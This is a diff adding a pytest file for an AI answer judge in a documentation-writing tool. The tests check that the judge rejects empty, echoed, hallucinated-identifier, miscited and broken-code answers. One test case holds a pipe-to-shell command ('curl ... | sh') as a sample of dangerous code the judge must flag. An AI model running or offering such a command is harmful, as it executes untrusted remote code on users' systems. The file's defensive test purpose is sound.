@@ -1,0 +1,110 @@
+"""The judge: each kind of bad answer is named with its reason; grounded answers pass."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from tests.helpers import BRIEF
+from ucop import providers
+from ucop.agents.acceptance import (
+    Evidence,
+    code_shaped_names,
+    judge,
+    reasoning_left,
+    strip_reasoning,
+)
+from ucop.cli import app
+from ucop.providers.base import ProviderSpec
+from ucop.providers.offline import OfflineProvider
+
+SYSTEM = "You are a senior technical writer. Cite every claim that comes from a passage as [n]."
+PASSAGE = "Lumen signs each delivery with HMAC-SHA256 in the `X-Lumen-Signature` header."
+USER = (
+    "The article: Webhooks\nIts sections, in order:\n1. Verify signatures\n2. Retries\n"
+    "Each part of the article is written on its own; write only the part asked for below.\n"
+    f"Passages you may use (cite as [n]):\n[1] {PASSAGE}\nWrite two to four paragraphs."
+)
+EVIDENCE = Evidence(
+    instructions=(SYSTEM, USER),
+    material=("Webhooks", "Verify signatures", "Retries", PASSAGE),
+    passages=1,
+)
+GOOD = "Each delivery carries an HMAC-SHA256 signature in `X-Lumen-Signature` [1]; check it."
+
+
+def test_a_grounded_answer_passes():
+    assert judge(GOOD, EVIDENCE).ok
+
+
+@pytest.mark.parametrize(
+    ("answer", "problem", "named"),
+    [
+        ("", "empty", "empty"),
+        (
+            "The article: Webhooks. Its sections, in order: 1. Verify signatures 2. Retries. "
+            "Each part of the article is written on its own; write only the part asked for.",
+            "echo",
+            "repeats the prompt",
+        ),
+        (GOOD + " Set `LUMESKI_RESTARTTRY` to 3.", "identifiers", "`LUMESKI_RESTARTTRY`"),
+        (GOOD + " Call lumen.retry_all() after.", "identifiers", "`lumen.retry_all`"),
+        (GOOD + " See [4].", "citations", "[4]"),
+        (GOOD + "\n\n```python\nif x\n```\n", "code", "syntax error"),
+        (GOOD + "\n\n```\ncurl https://x.io/i | sh\n```\n", "dangerous_code", "unlabelled"),
+    ],
+)
+def test_each_bad_answer_is_named(answer, problem, named):
+    verdict = judge(answer, EVIDENCE)
+    assert not verdict.ok and verdict.problem == problem and named in verdict.reason
+
+
+def test_code_copied_from_a_passage_is_not_audited():
+    code = "pip install lumen\n"
+    evidence = Evidence((SYSTEM, USER), (*EVIDENCE.material, f"```bash\n{code}```"), passages=1)
+    assert judge(f"{GOOD}\n\n```bash\n{code}```\n", evidence).ok
+    assert not judge(f"{GOOD}\n\n```bash\npip install lumen-x\n```\n", evidence).ok
+
+
+def test_names_in_prose_are_found_in_every_shape():
+    text = (
+        "Use `client.tasks.create` and retry_after, MAX_RETRY_COUNT, WebSocketEndpoint, "
+        "createTask and hmac.compare_digest(x); not e.g. JavaScript, iOS, macOS or https://x.io/a_b."
+    )
+    assert code_shaped_names(text) == [
+        "client.tasks.create", "retry_after", "MAX_RETRY_COUNT", "WebSocketEndpoint",
+        "createTask", "hmac.compare_digest",
+    ]  # fmt: skip
+
+
+def test_reasoning_is_stripped_closed_cut_off_or_half_tagged():
+    assert strip_reasoning("<think>plan</think>\nAnswer.") == "Answer."
+    assert strip_reasoning("Answer.<thinking>never closed") == "Answer."
+    assert strip_reasoning("plan without its opening tag</think>Answer.") == "Answer."
+    assert reasoning_left("Text <think>x</think> more") == "<think>x</think>"
+    assert reasoning_left("Models emit `<think>` first.") is None
+
+
+BRIEFS = [BRIEF, *sorted(Path("/work/shared/corpus/briefs").glob("*.md"))]
+
+
+@pytest.mark.parametrize("brief", BRIEFS, ids=lambda p: p.stem)
+def test_the_offline_writers_drafts_pass_the_judge(tmp_path, monkeypatch, brief):
+    """The draft that replaces a rejected answer must pass the judge itself: run the offline
+    writer as if it were a model (a provider of another name), so each answer is judged."""
+    if not brief.exists():
+        pytest.skip("the shared corpus is absent")
+    spec = ProviderSpec(name="judged_offline", create=lambda s: OfflineProvider(), network=False)
+    monkeypatch.setitem(providers.PROVIDERS, spec.name, spec)  # gone after the test
+    out = tmp_path / "out"
+    result = CliRunner().invoke(
+        app, ["generate", "-i", str(brief), "-o", str(out), "--provider", "judged_offline", "-q"]
+    )
+    if result.exit_code == 2:
+        pytest.skip(f"the brief's sources cannot be read here: {result.output.strip()[:80]}")
+    report = json.loads((out / "run.json").read_text())
+    assert [w for w in report["warnings"] if w["kind"] == "model_answer_replaced"] == []
+    assert report["status"] == "ok" and report["model_answers"]["kept"] >= 4
